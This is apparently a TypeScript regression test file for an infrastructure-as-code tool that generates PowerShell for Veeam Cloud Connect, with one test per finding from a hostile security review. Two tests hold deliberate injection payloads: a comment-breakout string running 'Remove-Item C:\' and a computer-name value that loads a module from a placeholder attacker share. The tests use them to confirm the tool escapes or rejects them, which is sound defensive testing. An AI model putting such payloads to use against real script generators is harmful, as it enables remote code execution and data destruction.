/**
 * Regression tests for what a hostile review of the Veeam side found: one case per finding, each
 * failing on the code before its fix.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { applyScript, commentText, readFunction } from "../../lib/veeam/powershell";
import { readObjects } from "../../lib/veeam/readers";
import { vccName } from "../../lib/rules/vcc-name";
import { baseConfig, paths, readExample, runCli, runRule } from "../helpers";
import { effective, envFor, fakeFor, modelOf, outputsOf, planFor } from "./helpers";

const ACME = readExample("acme.yaml");

const cli = (argv: string[], cwd: string) => runCli(argv, { cwd });

/** The embedded example configured in a fake Veeam, with the state and outputs files of that server. */
function configured(text = ACME) {
  const model = modelOf(text);
  const fake = fakeFor(model);
  const plan = planFor(model, fake);
  fake.applyPlan(plan, envFor(plan));
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "vcc-iac-veeam-hostile-"));
  fs.writeFileSync(path.join(dir, "sp.yaml"), text);
  const outputs: Record<string, unknown> = {};
  for (const [server, o] of outputsOf(model)) {
    outputs[server] = {
      backup_server: { sensitive: false, type: "string", value: server },
      hosts: { sensitive: false, type: "object", value: Object.fromEntries([...o.hosts].map(([h, ip]) => [h, { role: "x", os: "windows", private_ip: ip }])) },
      gateways: { sensitive: false, type: "object", value: Object.fromEntries([...o.gatewayIps].map(([g, ip]) => [g, { public_ip: ip }])) },
    };
  }
  for (const [server, o] of Object.entries(outputs)) fs.writeFileSync(path.join(dir, `outputs-${server}.json`), JSON.stringify(o));
  fs.writeFileSync(path.join(dir, "state.json"), fake.readState());
  return { model, fake, dir };
}

describe("hostile review of the Veeam side", () => {
  it("refuses a state read on another backup server (whose tenants --prune would otherwise delete)", async () => {
    const two = `${ACME.replace("\ntenants:", `  - name: vbr-us
    cloud: aws
    region: us-east-1
    account:
      aws: { accountId: "210987654321" }
    network: { cidr: 10.30.0.0/16, adminCidrs: [198.51.100.0/24] }
    gateways: [{ name: gw-1, dnsName: gw1.us.acme.example }, { name: gw-2, dnsName: gw2.us.acme.example }]
    repositories:
      - { name: s3-us, storage: aws-s3, bucket: acme-vcc-us-backups }

tenants:`)}`;
    const { dir } = configured(two);
    const r = await cli(["veeam", "sp.yaml", "--server", "vbr-us", "--against", "state.json", "--terraform-outputs", "outputs-vbr-us.json", "--prune", "--confirm-prune"], dir);
    expect(r.code).toBe(2);
    expect(r.err).toContain("holds objects vcc-iac made for 'acme/vbr-eu' (service provider/backup server), not for 'acme/vbr-us'");
  });

  it("keeps a quota the file no longer names unless --prune, and says which subtenants it takes with it", () => {
    const { model, fake } = configured();
    const renamed = modelOf(ACME.replace("friendlyName: Contoso EU", "friendlyName: Contoso Europe").replace("    subtenants:\n      - name: laptops\n        repository: s3-eu\n        quotaGb: 50\n", ""));
    const polite = planFor(renamed, fake);
    const contoso = polite.changes.find((c) => c.name === "Contoso Ltd")!;
    expect(contoso.dangerous).toBe(false);
    expect(contoso.note).toContain("quota Contoso EU is in Veeam, not in the file: kept (--prune would remove it)");
    fake.applyPlan(polite, envFor(polite));
    expect((fake.tenants[0].Resources as Array<{ RepositoryFriendlyName: string }>).map((r) => r.RepositoryFriendlyName)).toEqual(["Contoso Europe", "Contoso EU"]);
    const pruning = planFor(renamed, fake, { prune: true });
    const removal = pruning.changes.find((c) => c.name === "Contoso Ltd")!;
    expect(removal.dangerous).toBe(true);
    expect(removal.note).toContain("quota Contoso EU is removed: the tenant loses access to its backups there, and so do its subtenants laptops");
    void model;
  });

  it("compares names case-sensitively in PowerShell as in vcc-iac, and refuses quota names that differ only in case", () => {
    const { model, fake } = configured();
    const script = applyScript(planFor(model, fake), model.name, "x");
    expect(script).toMatch(/-ceq|-clike/);
    expect(script).not.toMatch(/\$_\.[A-Za-z.]+ -(eq|like|notin) /);
    const c = baseConfig();
    c.tenants![0]!.backup!.push({ repository: "s3-eu", friendlyName: "backup", quotaGb: 1 }, { repository: "s3-eu", friendlyName: "Backup", quotaGb: 1 } as never);
    expect(paths(runRule(vccName, c))).toEqual(["tenants.0.backup.2.friendlyName"]);
  });

  it("never lets text from a file break out of the script's comments, nor a state's computer name in", async () => {
    expect(commentText("a#> Remove-Item C:\\ <#b\nc")).toBe("a# > Remove-Item C:\\ < #b?c");
    const { dir } = configured();
    const state = JSON.parse(fs.readFileSync(path.join(dir, "state.json"), "utf8"));
    state.computer = "VBR-EU\n#>\nusing module \\\\attacker\\share\\evil.psm1\n<#";
    fs.writeFileSync(path.join(dir, "evil.json"), JSON.stringify(state));
    const r = await cli(["veeam", "sp.yaml", "--against", "evil.json", "--terraform-outputs", "outputs-vbr-eu.json", "--script", "apply"], dir);
    expect([r.code, r.out]).toEqual([2, ""]);
    expect(r.err).toContain("evil.json: names no computer (a Windows computer name)");
  });

  it("reads a SwitchParameter as the Boolean it stands for", () => {
    const reader = { key: "t", cmdlet: "Get-X", objectPage: "X", fields: { failover: { path: "GatewayFailoverEnabled", as: "bool" as const } } };
    expect(readObjects(reader, [{ Name: "a", GatewayFailoverEnabled: { IsPresent: false } }, { Name: "b", GatewayFailoverEnabled: true }])).toEqual([{ failover: false }, { failover: true }]);
    expect(readFunction()).toContain("[bool]$o.GatewayFailoverEnabled");
  });

  it("writes the state in ASCII whatever the console's code page, and needs PowerShell 7.2", () => {
    expect(readFunction()).toContain("ConvertTo-Json -Depth 16 -Compress -EscapeHandling EscapeNonAscii");
    const { model, fake } = configured();
    expect(applyScript(planFor(model, fake), model.name, "x").startsWith("#Requires -Version 7.2\n")).toBe(true);
  });

  it("protects the password file (by SID, created new) before the first account is made, and saves each password as it is made", () => {
    const model = modelOf(ACME);
    const fake = fakeFor(model);
    const script = applyScript(planFor(model, fake), model.name, "x");
    expect(script.indexOf("Protect-VccFile $PasswordFile")).toBeLessThan(script.indexOf("[1/"));
    expect(script).toContain("[IO.FileMode]::CreateNew");
    expect(script).toContain("SecurityIdentifier('S-1-5-32-544')");
    expect(script).not.toContain("BUILTIN\\\\Administrators");
    expect(script).toMatch(/\$script:VccNewPasswords\[\$account\] = \$password\n\s+Save-VccPasswords/);
  });

  it("refuses malformed states with exit 2, never a crash and never a guess", async () => {
    const { dir } = configured();
    const base = JSON.parse(fs.readFileSync(path.join(dir, "state.json"), "utf8"));
    const cases: Array<[string, (s: Record<string, any>) => void, RegExp]> = [
      ["null resource", (s) => (s.tenants[0].resources = [null]), /tenants\[0\]\.resources\[0\] is not an object/],
      ["replication as text", (s) => (s.tenants[0].replication = "x"), /tenants\[0\]\.replication is not an object/],
      ["quota as text", (s) => (s.tenants[0].resources[0].quotaMb = "500"), /quotaMb is not a number/],
      ["description as object", (s) => (s.tenants[0].description = { a: 1 }), /tenants\[0\]\.description is not a string/],
      ["pool members as objects", (s) => (s.gatewayPools[0].gateways = [{}]), /gatewayPools\[0\]\.gateways is not a list of names/],
      ["friendly name missing", (s) => (s.tenants[0].resources[0].friendlyName = null), /friendlyName is not a string/],
      ["duplicate tenant", (s) => s.tenants.push(s.tenants[0]), /tenants\[3\] has the same name as an earlier one/],
      // A marker replaced by text after serialising: JSON.stringify itself overflows on 5,000 levels.
      ["deeply nested", (s) => (s.tenants[0].description = "@@DEEP@@"), /nests deeper than the read script writes/],
      ["public IP as object", (s) => s.publicIps.push({ ipAddress: { x: 1 } }), /publicIps\[0\]\.ipAddress is not a string/],
    ];
    for (const [name, mutate, message] of cases) {
      const s = structuredClone(base);
      mutate(s);
      const text = JSON.stringify(s).replace('"@@DEEP@@"', `${"[".repeat(5000)}1${"]".repeat(5000)}`);
      fs.writeFileSync(path.join(dir, "bad.json"), text);
      const r = await cli(["veeam", "sp.yaml", "--against", "bad.json", "--terraform-outputs", "outputs-vbr-eu.json", "--script", "apply"], dir);
      expect([name, r.code]).toEqual([name, 2]);
      expect(r.err).toMatch(message);
    }
  });

  it("leaves pools and hardware plans that are not vcc-iac's alone even when pruning, and flags shrinking a plan's storage", () => {
    const google = readExample("google.yaml");
    const { model, fake } = configured(google);
    fake.pools.push({ Id: "p1", Name: "hand-made", Description: "made in the console", CloudGateways: [] });
    const pruning = planFor(model, fake, { prune: true });
    expect(pruning.changes.find((c) => c.name === "hand-made")).toMatchObject({ action: "unmanaged" });
    const shrunk = modelOf(google.replace("quotaGb: 2000 }", "quotaGb: 10 }"));
    const plan = planFor(shrunk, fake);
    expect(plan.changes.find((c) => c.kind === "hardware plan")).toMatchObject({ action: "change", dangerous: true, note: expect.stringContaining("storage Gold SSD shrinks or goes") });
    expect(effective(plan)).toEqual(["change hardware plan gold"]);
  });

  it("escapes the password line of a Markdown plan", async () => {
    const text = ACME.replace("  - name: Fabrikam2\n", "  - name: '~~z~~ #12 `x`'\n");
    const model = modelOf(text);
    const plan = planFor(model, fakeFor(model));
    const { renderVeeamPlan } = await import("../../lib/veeam/render");
    const md = renderVeeamPlan(plan, "markdown");
    expect(md).not.toContain("~~z~~");
    expect(md).not.toMatch(/[^\\]`x`/);
  });
});
